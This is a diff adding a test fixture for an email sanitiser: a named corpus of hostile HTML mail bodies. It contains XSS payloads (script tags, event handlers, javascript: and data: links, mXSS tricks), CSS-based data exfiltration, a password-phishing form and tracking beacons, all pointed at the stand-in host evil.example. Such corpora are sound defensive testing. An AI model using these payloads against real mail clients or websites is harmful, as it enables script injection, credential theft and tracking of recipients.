@@ -1,0 +1,38 @@
+// Hostile HTML mail bodies, each named after its attack. Used by the sanitiser unit tests and
+// delivered to a real mailbox by the browser tests. "evil.example" must never be contacted.
+export const EVIL = 'http://evil.example';
+
+export const hostileCorpus: Record<string, string> = {
+  'script-tag': `<p>hola</p><script>alert(1);fetch('${EVIL}/script')</script>`,
+  'script-in-head': `<html><head><script src="${EVIL}/x.js"></script></head><body>x</body></html>`,
+  'event-handler-img': `<img src="x" onerror="alert(1);new Image().src='${EVIL}/onerror'">`,
+  'event-handler-body': `<body onload="alert(1)"><div onmouseover="alert(2)">hover</div></body>`,
+  'javascript-link': `<a href="javascript:alert(1)">clic</a><a href=" JaVaScRiPt:alert(1)">2</a>`,
+  'javascript-entity-link': `<a href="&#106;avascript:alert(1)">3</a>`,
+  'data-html-link': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`,
+  'meta-refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>x</p>`,
+  'base-hijack': `<base href="${EVIL}/"><a href="/relative">r</a>`,
+  'css-url-exfiltration': `<div style="background:url('${EVIL}/bg')">a</div><style>input[value^=a]{background:url(${EVIL}/a)}</style>`,
+  'css-import': `<style>@import url("${EVIL}/import.css"); p{color:red}</style><style>@import '${EVIL}/2.css';</style>`,
+  'css-escape-url': `<div style="background:\\75 rl(${EVIL}/esc)">e</div><style>p{background:u\\72l(${EVIL}/esc2)}</style>`,
+  'css-comment-url': `<div style="background:u/**/rl(${EVIL}/cm)">c</div>`,
+  'css-expression': `<div style="width:expression(alert(1))">ie</div>`,
+  'css-font-face': `<style>@font-face{font-family:x;src:url(${EVIL}/font.woff)} p{font-family:x}</style>`,
+  'form-phishing': `<form action="${EVIL}/login" method="post"><input name="password"><button>Enviar</button></form>`,
+  'button-formaction': `<button formaction="${EVIL}/fa">go</button>`,
+  'svg-script': `<svg><script>alert(1)</script><image href="${EVIL}/svg.png"/></svg>`,
+  'svg-onload': `<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>t</text></a></svg>`,
+  'svg-data-image': `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
+  'math-mxss': `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
+  'iframe-embed': `<iframe src="${EVIL}/frame"></iframe><embed src="${EVIL}/e"><object data="${EVIL}/o"></object>`,
+  'remote-image': `<p>Boletín</p><img src="${EVIL}/pixel.gif" width="1" height="1">`,
+  'remote-image-srcset': `<img srcset="${EVIL}/s1.png 1x, ${EVIL}/s2.png 2x">`,
+  'table-background': `<table background="${EVIL}/tb.png"><tr><td background="${EVIL}/td.png">t</td></tr></table>`,
+  'link-stylesheet': `<link rel="stylesheet" href="${EVIL}/l.css"><p>l</p>`,
+  'video-poster': `<video poster="${EVIL}/poster.png"><source src="${EVIL}/v.mp4"></video>`,
+  'anchor-ping': `<a href="https://ok.example/" ping="${EVIL}/ping">ping</a>`,
+  'noscript-mxss': `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+  'template-script': `<template><script>alert(1)</script></template>`,
+  'dialog-popover': `<dialog open onclose="alert(1)">d</dialog><div popover id=p>p</div>`,
+  'protocol-relative-image': `<img src="//evil.example/pr.png">`,
+};
